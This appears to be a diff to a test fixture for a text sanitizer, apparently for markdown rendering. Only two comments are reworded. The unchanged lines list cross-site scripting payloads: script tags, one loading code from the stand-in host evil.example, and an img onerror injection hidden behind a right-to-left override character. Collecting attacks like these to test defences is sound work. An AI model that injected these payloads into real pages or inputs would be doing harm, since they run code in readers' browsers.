@@ -1,4 +1,4 @@
-/** What somebody might write to run `taken()` in a reader's browser, to fetch from `evil.example`, or to change the page around the text. */
+/** Texts that try to run `taken()` in a reader's browser, to fetch from `evil.example`, or to change the page around the text. */
 const attacks: readonly string[] = [
   "<script>taken()</script>",
   '<script src="//evil.example/x.js"></script>',
@@ -32,7 +32,7 @@ const attacks: readonly string[] = [
   "https://evil.example/<img/src=x/onerror=taken()> www.evil.example\u202e&lt;script&gt;taken()&lt;/script&gt;",
 ];
 
-/** Where an attack stands; `text` may have several lines. */
+/** Surroundings of an attack; `text` may have several lines. */
 const places: readonly ((text: string) => string)[] = [
   (text) => text,
   (text) => text.replace(/^/gm, "> "),
